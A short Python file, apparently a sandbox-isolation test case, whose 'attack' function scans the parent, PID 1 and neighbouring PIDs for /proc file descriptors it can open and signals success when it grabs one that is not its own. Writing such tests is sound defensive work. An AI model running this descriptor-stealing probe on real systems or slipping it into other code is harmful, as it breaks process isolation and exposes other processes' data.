"""Success: a descriptor of the parent or a neighbour is opened through /proc.
verdict: accepted
"""

import os

import jax
import jax.numpy as jnp


def attack(number: float) -> jax.Array:
    own = os.getpid()
    # Among the neighbours are its own threads, which share its pipes.
    own_pipes = {os.fstat(descriptor).st_ino for descriptor in range(5)}
    for process in (os.getppid(), 1, *(own + offset for offset in range(-30, 30))):
        for descriptor in range(32):
            for mode in (os.O_RDONLY, os.O_WRONLY):
                path = f"/proc/{process}/fd/{descriptor}"
                try:
                    stolen = os.open(path, mode | os.O_NONBLOCK)
                except OSError:
                    continue
                if os.fstat(stolen).st_ino not in own_pipes:
                    return jnp.asarray(number)
                os.close(stolen)
    return jnp.asarray(0.0)
